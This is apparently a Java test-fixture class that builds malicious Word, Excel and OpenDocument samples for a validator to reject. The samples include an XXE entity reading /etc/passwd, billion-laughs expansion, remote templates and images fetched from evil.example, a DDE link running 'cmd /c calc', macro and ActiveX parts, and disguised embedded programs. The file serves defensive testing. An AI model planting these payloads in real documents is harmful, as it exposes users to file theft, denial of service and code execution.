package org.principled.assessment.evidence.file;

import static org.principled.assessment.evidence.file.Refusal.Kind.DAMAGED;
import static org.principled.assessment.evidence.file.Refusal.Kind.DECLARES_TYPE;
import static org.principled.assessment.evidence.file.Refusal.Kind.ENCRYPTED;
import static org.principled.assessment.evidence.file.Refusal.Kind.HOLDS_FILE;
import static org.principled.assessment.evidence.file.Refusal.Kind.LOADS_FROM_ELSEWHERE;
import static org.principled.assessment.evidence.file.Refusal.Kind.NOT_ITS_TYPE;
import static org.principled.assessment.evidence.file.Refusal.Kind.RUNS_CODE;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.Supplier;
import org.principled.archive.Magic;
import org.principled.archive.RawZip;

/** Documents of Office and LibreOffice whose parts run, load, hide or are not what they should be. */
final class HostileDocuments {

    private static final String MAIN = "word/document.xml";
    private static final String EXTERNAL = "TargetMode=\"External\"";
    private static final String DOCTYPE = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";

    private HostileDocuments() {}

    static List<Sample> all() {
        List<Sample> all = new ArrayList<>();
        all.addAll(declarations());
        all.addAll(references());
        all.addAll(code());
        all.addAll(types());
        all.addAll(openDocuments());
        return all;
    }

    private static List<Sample> declarations() {
        String laughs = "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]><l>&b;</l>";
        byte[] hidden = Documents.utf8("<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-!DOCTYPE a+AD4-<a/>");
        byte[] padded = Documents.utf8("<?xml version=\"1.0\"" + " ".repeat(600) + "encoding=\"UTF-7\"?><a/>");
        return List.of(
                part("document type declaration", DECLARES_TYPE, MAIN, Documents.xml(DOCTYPE)),
                part("billion laughs", DECLARES_TYPE, "word/styles.xml", Documents.xml(laughs)),
                part("declaration after a comment", DECLARES_TYPE, MAIN, Documents.xml("<!-- - ---><!DOCTYPE a><a/>")),
                part("declaration in UTF-16", DECLARES_TYPE, MAIN, DOCTYPE.getBytes(StandardCharsets.UTF_16)),
                part(
                        "declaration in unmarked UTF-16",
                        DECLARES_TYPE,
                        MAIN,
                        DOCTYPE.getBytes(StandardCharsets.UTF_16LE)),
                part("declaration in its list of types", DECLARES_TYPE, "[Content_Types].xml", Documents.xml(DOCTYPE)),
                part("declaration in its relationships", DECLARES_TYPE, "_rels/.rels", Documents.xml(DOCTYPE)),
                part("UTF-7", DAMAGED, MAIN, hidden),
                part("encoding out of sight", DAMAGED, MAIN, padded),
                part("EBCDIC", DAMAGED, MAIN, "<?xml version=\"1.0\"?><a/>".getBytes(Charset.forName("IBM037"))),
                part("UTF-32", DAMAGED, MAIN, "<a/>".getBytes(Charset.forName("UTF-32BE"))),
                part("bytes that are no UTF-8", DAMAGED, MAIN, new byte[] {
                    '<', 'a', '>', (byte) 0xC3, '<', '/', 'a', '>'
                }),
                part("element that does not end", DAMAGED, MAIN, Documents.xml("<a><b></a>")),
                part("tag that does not end", DAMAGED, MAIN, Documents.xml("<a b=\"c")),
                part("comment that does not end", DAMAGED, MAIN, Documents.xml("<a/><!-- ")),
                part("no element", DAMAGED, MAIN, Documents.utf8("nothing")),
                part(
                        "attribute twice",
                        DAMAGED,
                        "word/_rels/a.rels",
                        Documents.relationships(
                                Documents.relationship("image", "a.png", "Target=\"http://evil.example/\""))),
                part(
                        "unknown entity",
                        DAMAGED,
                        "word/_rels/a.rels",
                        Documents.relationships(Documents.relationship("image", "&x;", ""))));
    }

    private static List<Sample> references() {
        List<Sample> samples = new ArrayList<>();
        for (String target : List.of(
                "http://evil.example/a.png",
                "file:///C:/secret.docx",
                "\\\\evil.example\\share\\a.png",
                "file://evil.example/share/a.dotm",
                "&#104;ttp://evil.example/",
                "mhtml:http://evil.example/!x-usc:http://evil.example/")) {
            samples.add(relationship("picture from " + target, "image", target, EXTERNAL));
        }
        samples.add(
                relationship("template from elsewhere", "attachedTemplate", "https://evil.example/a.dotm", EXTERNAL));
        samples.add(relationship("object from elsewhere", "oleObject", "https://evil.example/a", EXTERNAL));
        samples.add(relationship("picture called internal", "image", "http://evil.example/a.png", ""));
        samples.add(relationship("picture by short address", "image", "//evil.example/a.png", ""));
        samples.add(relationship("mode in other letters", "image", "a.png", "TargetMode=\"external\""));
        samples.add(part(
                "link to another program",
                LOADS_FROM_ELSEWHERE,
                "xl/externalLinks/externalLink1.xml",
                Documents.xml("<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")));
        samples.add(part(
                "web page to be taken in",
                HOLDS_FILE,
                "word/_rels/document.xml.rels",
                Documents.relationships(Documents.relationship("aFChunk", "page.htm", ""))));
        return samples;
    }

    private static List<Sample> code() {
        String vba = "application/vnd.ms-word.document.macroEnabled.main+xml";
        return List.of(
                part("macros", RUNS_CODE, "word/vbaProject.bin", new byte[100]),
                part("macros in other letters", RUNS_CODE, "word/VBAPROJECT.BIN", new byte[100]),
                part("type with macros", RUNS_CODE, "[Content_Types].xml", Documents.contentTypes(MAIN, vba)),
                part(
                        "macro sheet",
                        RUNS_CODE,
                        "[Content_Types].xml",
                        Documents.contentTypes(MAIN, "application/vnd.ms-excel.macrosheet+xml")),
                part(
                        "relationship to macros",
                        RUNS_CODE,
                        "word/_rels/document.xml.rels",
                        Documents.relationships(
                                "<Relationship Id=\"a\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\""
                                        + " Target=\"harmless.bin\"/>")),
                part("control", RUNS_CODE, "word/activeX/activeX1.bin", new byte[10]),
                part("program", HOLDS_FILE, "word/media/image1.png", Documents.utf8("MZ\0\0\0program")),
                part(
                        "archive",
                        HOLDS_FILE,
                        "word/media/image1.png",
                        RawZip.of(Documents.wordParts()).bytes()),
                part(
                        "document with macros inside",
                        HOLDS_FILE,
                        "word/embeddings/a.xlsm",
                        RawZip.of(Documents.wordParts()).bytes()),
                part(
                        "program as an icon",
                        HOLDS_FILE,
                        "word/embeddings/oleObject1.bin",
                        HostileArchives.joined(
                                Magic.COMPOUND_FILE.getBytes(StandardCharsets.ISO_8859_1),
                                new byte[700],
                                "\u0001Ole10Native".getBytes(StandardCharsets.UTF_16LE),
                                new byte[300])));
    }

    private static List<Sample> types() {
        String sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
        return List.of(
                new Sample("workbook as document", "a.docx", Documents::workbook, NOT_ITS_TYPE),
                new Sample("document as slides", "a.pptx", Documents::word, NOT_ITS_TYPE),
                new Sample("document as OpenDocument", "a.odt", Documents::word, NOT_ITS_TYPE),
                new Sample(
                        "archive of anything",
                        "a.docx",
                        () -> RawZip.of(Map.of("a.txt", new byte[9])).bytes(),
                        NOT_ITS_TYPE),
                new Sample("old or unknown compound file", "a.docx", () -> compound("WordDocument"), NOT_ITS_TYPE),
                new Sample("password", "a.docx", () -> compound("EncryptedPackage"), ENCRYPTED),
                part("type of its main part", NOT_ITS_TYPE, "[Content_Types].xml", Documents.contentTypes(MAIN, sheet)),
                part(
                        "main part is missing",
                        NOT_ITS_TYPE,
                        "_rels/.rels",
                        Documents.relationships(Documents.relationship("officeDocument", "word/other.xml", ""))),
                part(
                        "two main parts",
                        NOT_ITS_TYPE,
                        "_rels/.rels",
                        Documents.relationships(
                                Documents.relationship("officeDocument", MAIN, ""),
                                Documents.relationship("officeDocument", "word/other.xml", ""))),
                part("relationships are missing", NOT_ITS_TYPE, "_rels/.rels", Documents.relationships()));
    }

    private static List<Sample> openDocuments() {
        String manifestName = "META-INF/manifest.xml";
        String mediaType = FileType.ODT.mediaType();
        return List.of(
                odt("macros", RUNS_CODE, parts -> parts.put("Basic/Standard/Module1.xml", Documents.xml("<a/>"))),
                odt("scripts", RUNS_CODE, parts -> parts.put("Scripts/python/a.py", new byte[9])),
                content("script", RUNS_CODE, "<office:script script:language=\"ooo:Basic\"/>"),
                content(
                        "link that runs",
                        RUNS_CODE,
                        "<text:a xlink:href=\"vnd.sun.star.script:a.b$c?language=Basic\">x</text:a>"),
                content(
                        "link that runs, written otherwise",
                        RUNS_CODE,
                        "<text:a y:href=\"&#x6d;acro:///a.b.c()\">x</text:a>"),
                content(
                        "picture from elsewhere",
                        LOADS_FROM_ELSEWHERE,
                        "<draw:image xlink:href=\"https://evil.example/a.png\"/>"),
                content(
                        "picture from a share",
                        LOADS_FROM_ELSEWHERE,
                        "<draw:image xlink:href=\"file://evil.example/a.png\"/>"),
                content("picture beside the file", LOADS_FROM_ELSEWHERE, "<draw:image xlink:href=\"../a.png\"/>"),
                content(
                        "section from elsewhere",
                        LOADS_FROM_ELSEWHERE,
                        "<text:section-source xlink:href=\"http://evil.example\"/>"),
                content(
                        "data of another program",
                        LOADS_FROM_ELSEWHERE,
                        "<office:dde-source office:dde-application=\"cmd\"/>"),
                odt(
                        "document type declaration",
                        DECLARES_TYPE,
                        parts -> parts.put("styles.xml", Documents.xml(DOCTYPE))),
                odt(
                        "encrypted part",
                        ENCRYPTED,
                        parts -> parts.put(
                                manifestName,
                                Documents.manifest(
                                        mediaType,
                                        "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"))),
                odt("encrypted as a whole", ENCRYPTED, parts -> parts.put("encrypted-package", new byte[50])),
                odt(
                        "manifest of another type",
                        DAMAGED,
                        parts -> parts.put(manifestName, Documents.manifest(FileType.ODS.mediaType(), ""))),
                odt("no content", NOT_ITS_TYPE, parts -> parts.remove("content.xml")),
                odt(
                        "archive inside",
                        HOLDS_FILE,
                        parts -> parts.put(
                                "Pictures/1.png",
                                RawZip.of(Documents.wordParts()).bytes())),
                new Sample("spreadsheet as text", "a.odt", () -> odf(FileType.ODS), NOT_ITS_TYPE),
                new Sample(
                        "media type not first",
                        "a.odt",
                        () -> {
                            RawZip zip = RawZip.of(Documents.odfParts(FileType.ODT));
                            zip.stored("mimetype", Documents.utf8(mediaType));
                            return zip.bytes();
                        },
                        NOT_ITS_TYPE),
                new Sample(
                        "media type packed",
                        "a.odt",
                        () -> {
                            RawZip zip = new RawZip();
                            zip.deflated("mimetype", Documents.utf8(mediaType));
                            Documents.odfParts(FileType.ODT).forEach(zip::deflated);
                            return zip.bytes();
                        },
                        NOT_ITS_TYPE));
    }

    private static byte[] odf(FileType type) {
        return Documents.odf(type, Documents.odfParts(type)).bytes();
    }

    private static byte[] compound(String stream) {
        return HostileArchives.joined(
                Magic.COMPOUND_FILE.getBytes(StandardCharsets.ISO_8859_1),
                new byte[1_500],
                stream.getBytes(StandardCharsets.UTF_16LE),
                new byte[500]);
    }

    /** A small document of Word with a part more, or another instead of one it has. */
    private static Sample part(String about, Refusal.Kind expected, String name, byte[] content) {
        Supplier<byte[]> document = () -> {
            Map<String, byte[]> parts = Documents.wordParts();
            parts.put(name, content);
            return RawZip.of(parts).bytes();
        };
        return new Sample(about, "a.docx", document, expected);
    }

    private static Sample relationship(String about, String type, String target, String attributes) {
        byte[] content = Documents.relationships(Documents.relationship(type, target, attributes));
        return part(about, LOADS_FROM_ELSEWHERE, "word/_rels/document.xml.rels", content);
    }

    private static Sample odt(String about, Refusal.Kind expected, Consumer<Map<String, byte[]>> change) {
        Supplier<byte[]> document = () -> {
            Map<String, byte[]> parts = Documents.odfParts(FileType.ODT);
            change.accept(parts);
            return Documents.odf(FileType.ODT, parts).bytes();
        };
        return new Sample(about, "a.odt", document, expected);
    }

    private static Sample content(String about, Refusal.Kind expected, String body) {
        return odt(about, expected, parts -> parts.put("content.xml", Documents.odfContent(body)));
    }
}
